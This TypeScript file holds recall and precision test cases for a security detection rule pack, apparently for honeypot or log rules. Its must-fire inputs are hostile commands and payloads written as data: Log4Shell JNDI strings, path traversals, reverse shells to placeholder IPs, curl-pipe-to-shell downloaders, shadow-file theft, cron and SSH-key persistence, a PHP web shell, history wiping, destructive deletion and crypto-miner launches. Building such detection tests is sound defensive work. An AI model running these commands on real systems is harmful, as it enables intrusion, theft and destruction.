/**
 * The recall and precision cases of ttp.md §11.3 and §11.4, as data. Lint requires a
 * must-fire test for each `fire` case of a rule (§2.6); the pack test checks every case,
 * `fire` and not, is among the rule's tests with the right expectation. A case names the
 * raw test-input fields it is about, or (for multi-input cases) the test's name.
 */
import type { RecallCase } from './lint/tests.js';

type Fields = Record<string, unknown>;

function cases(rule: string, fire: readonly (string | Fields)[], not: readonly (string | Fields)[], field: string): RecallCase[] {
  const one = (v: string | Fields, f: boolean): RecallCase => ({ rule, fire: f, match: typeof v === 'string' ? { [field]: v } : v });
  return [...fire.map((v) => one(v, true)), ...not.map((v) => one(v, false))];
}

function named(rule: string, fire: readonly string[], not: readonly string[]): RecallCase[] {
  return [...fire.map((name) => ({ rule, fire: true, match: null, name })), ...not.map((name) => ({ rule, fire: false, match: null, name }))];
}

const cmd = (rule: string, fire: readonly (string | Fields)[], not: readonly (string | Fields)[]): RecallCase[] => cases(rule, fire, not, 'command_text');

export const RECALL_CASES: readonly RecallCase[] = [
  ...named('R0001', ['five outcome-less root logins'], ['four attempts', 'six successes']),
  ...named('R0002', ['root with pw1 to pw5'], ['four attempts', 'six successes']),
  ...named('R0004', ['target_count 3 from two addresses'], ['target_count 1', 'no target count']),
  ...cases('R0006', [{ username: 'root', password: 'xc3511', outcome: 'success' }, { username: 'pi', password: 'raspberry', outcome: 'success' }], [{ username: 'root', password: 'xc3511', outcome: 'failure' }, { username: 'root', password: 'Xk9#qL2', outcome: 'success' }], ''),
  ...cases(
    'R0007',
    ['Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)', 'Mozilla/5.0 zgrab/0.x', 'masscan/1.3 (https://github.com/robertdavidgraham/masscan)', 'gobuster/3.6', 'sqlmap/1.7.2#stable (https://sqlmap.org)'],
    ['curl/8.4.0', 'python-requests/2.31.0'],
    'user_agent',
  ),
  ...cases('R0008', ['${jndi:ldap://1.2.3.4:1389/Exploit}', '${${lower:j}ndi:${lower:l}dap://x/a}', '${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x/a}', '${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x/}'], [], 'user_agent'),
  ...cases('R0008', [{ headers: { 'X-Api-Version': '${jndi:dns://x.example/a}' } }, { path: '/?q=%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D' }], [{ path: '/?name=${user}' }, { path: '/tpl?x=${index}' }], 'path'),
  ...cases(
    'R0009',
    ['/..%2f..%2f..%2fetc/passwd', '/%252e%252e%252f%252e%252e%252fetc/passwd', '/static/..\\..\\windows\\win.ini', '/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd', '/....//....//etc/passwd', '/index.php?page=/etc/passwd', '/index.php?page=php://filter/convert.base64-encode/resource=index'],
    ['/docs/../index.html', '/search?q=..'],
    'path',
  ),
  ...cmd('R0010', ['curl -s http://1.2.3.4/x.sh | sh', 'wget -qO- http://1.2.3.4/a | bash -s', 'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f', 'ncat 10.0.0.1 4444 -e /bin/bash', "socat exec:'bash -li',pty,stderr tcp:10.0.0.1:4444"], ['ls -la | grep sh', 'bash script.sh', 'nc -zv 10.0.0.1 22']),
  ...cmd('R0011', [`php -r "system('id');"`, 'bash -c "id"', "python3.8 -c 'print(1)'"], ['python script.py', 'perl -v']),
  ...cmd('R0012', ['cd /tmp; wget 45.95.1.2/bins.sh; chmod +x bins.sh; ./bins.sh', 'busybox tftp -g -r mips 45.95.1.2', 'ftpget -v -u anonymous -p x 1.2.3.4 a.sh a.sh', 'curl -fsSL https://x.example/i.sh | sh', 'echo d2dldCBodHRwOi8vMS4yLjMuNC94LnNo | base64 -d | sh'], ['curl --version', 'wget --help', 'curl -s http://ipinfo.io/ip']),
  ...cmd('R0013', ["awk -F: '{print $1}' /etc/passwd", 'getent passwd', 'uname -a; cat /etc/passwd'], ['echo x >> /etc/passwd', 'cat /etc/hostname']),
  ...cmd('R0014', ['cp /etc/shadow /tmp/s', 'unshadow /etc/passwd /etc/shadow > h', 'tar czf /tmp/x.tgz /etc/shadow', 'base64 /etc/shadow', 'cat /etc/gshadow'], ['ls -l /etc/shadow', 'chmod 640 /etc/shadow']),
  ...cmd('R0015', ['find / -perm /u=s', 'find / -perm -g=s', 'find / -perm -6000 -type f'], ['find / -perm 644', 'find / -name "*.conf"']),
  ...cmd('R0017', ['nc -nvz 10.0.0.1 22', './naabu -host 10.0.0.1'], ['nc 10.0.0.1 80', 'apt install nmap']),
  ...cmd('R0018', ['uname', 'cat /proc/cpuinfo | grep name | wc -l', 'lscpu | grep Model', 'nproc'], ['free -m', 'df -h']),
  ...cmd('R0019', ['uname -a;id', 'cd /tmp && whoami', 'echo $(whoami)'], ['cat .ssh/id_rsa', 'echo id']),
  ...cmd('R0029', ['cd /tmp; sudo su', 'sudo bash'], ['sudo apt update']),
  ...cmd('R0020', ['ip -br a', 'ip -4 addr show', 'route', 'cat /etc/resolv.conf', 'curl ifconfig.me'], ['pip install x', 'zip a.zip b']),
  ...cmd('R0021', ['netstat', 'ss'], ['lsof /var/log/x', 'ps aux']),
  ...cmd('R0023', ['enum4linux-ng -A 10.0.0.1', 'smbmap -H 10.0.0.1', 'crackmapexec smb 10.0.0.0/24 --shares', 'smbclient -N -L //10.0.0.1'], ['smbclient //10.0.0.1/share', 'rpcclient -U "" 10.0.0.1']),
  ...cmd('R0024', ['echo "x:x:0:0::/:/bin/sh" | tee -a /etc/passwd'], ['useradd --help', 'cat /etc/passwd']),
  ...cmd('R0025', ['(crontab -l 2>/dev/null; echo "*/5 * * * * /tmp/.x/upd") | crontab -', 'crontab /tmp/cron.txt', 'echo "@reboot /tmp/x" >> /etc/crontab', { command_text: 'CONFIG SET dir /var/spool/cron', service: 'redis' }], ['crontab -l', 'cat /etc/crontab']),
  ...cmd('R0026', ['CONFIG SET dir /root/.ssh/', 'config set dbfilename authorized_keys'], ['CONFIG GET dir', 'config set dir /tmp']),
  ...cases('R0027', [{ method: 'PUT', path: '/x.jsp' }, { command_text: `echo '<?php system($_GET["c"]); ?>' > /usr/share/nginx/html/x.php` }], [{ method: 'PUT', path: '/notes.txt' }, { command_text: 'echo hi > /tmp/x.php' }], ''),
  ...cmd('R0028', ['rm -rf ~/.bash_history', 'cat /dev/null > /root/.bash_history', 'ln -sf /dev/null ~/.bash_history', 'HISTSIZE=0', 'set +o history'], ['history | tail', 'cat ~/.bash_history']),
  ...cmd('R0032', [{ command_text: 'flushall', service: 'redis' }, 'redis-cli -h 1.2.3.4 flushall', 'rm -rf --no-preserve-root /'], ['GET flushall_key', 'DROP TABLE x']),
  ...cases('R0036', [{ command_text: 'cat ~/.aws/credentials' }, { path: '/api/.env.production' }, { path: '/%2eaws/credentials' }], [], ''),
  ...cases('R0037', [{ path: '/api/v1/secrets' }, { command_text: 'cat /var/run/secrets/kubernetes.io/serviceaccount/token' }, { command_text: 'kubectl get secrets -A' }], [{ path: '/api/v1/namespaces/default/pods' }, { command_text: 'kubectl get pods' }], ''),
  ...named('R0042', ['25 one-recipient messages with one body'], ['25 messages with 25 bodies', '24 recipients']),
  ...cases('R0043', ['Leaf PHPMailer 2.8', 'Atomic Mail Sender 9.3'], ['PHPMailer 6.8.0', 'Microsoft Outlook 16.0'], 'x_mailer'),
  ...cases('R0044', [{ url_hosts: ['login.xn--pypal-4ve.com'] }], [{ url_hosts: ['example.com'] }, { url_hosts: ['xn.example.com'] }], ''),
  ...cases('R0046', [['vhd'], ['one'], ['hta'], ['js'], ['iso']].map((e) => ({ attachment_extensions: e })), [{ attachment_extensions: ['pdf'] }, { attachment_extensions: ['png'] }], ''),
  ...cmd(
    'R0060',
    ['cd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC bot@vps">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~', 'echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI k" >> /root/.ssh/authorized_keys', 'cat /tmp/k.pub | tee -a ~/.ssh/authorized_keys', 'cp /tmp/k ~/.ssh/authorized_keys'],
    ['cat ~/.ssh/authorized_keys', 'ls -la ~/.ssh', 'grep ssh-rsa ~/.ssh/authorized_keys', 'chmod 600 ~/.ssh/authorized_keys'],
  ),
  ...cmd(
    'R0061',
    ['./xmrig -o pool.supportxmr.com:443 -u 44AFFq5kSiGBoZ -k --tls', 'nohup ./kswapd0 -o stratum+tcp://pool.example:3333 -u x -p x &', './minerd -a cryptonight -o stratum+tcp://xmr.pool.example:45700 -u x -p x', 'chmod +x xmrig && ./xmrig --donate-level 1'],
    ['pkill -9 xmrig', 'killall -9 minerd', 'ps aux | grep -i xmrig', 'pkill -f stratum'],
  ),
];

const byRule = new Map<string, RecallCase[]>();
for (const c of RECALL_CASES) byRule.set(c.rule, [...(byRule.get(c.rule) ?? []), c]);

/** The §11.3/§11.4 cases of a rule id (empty for rules outside the pack's list). */
export function recallCasesFor(ruleId: string): readonly RecallCase[] {
  return byRule.get(ruleId) ?? [];
}
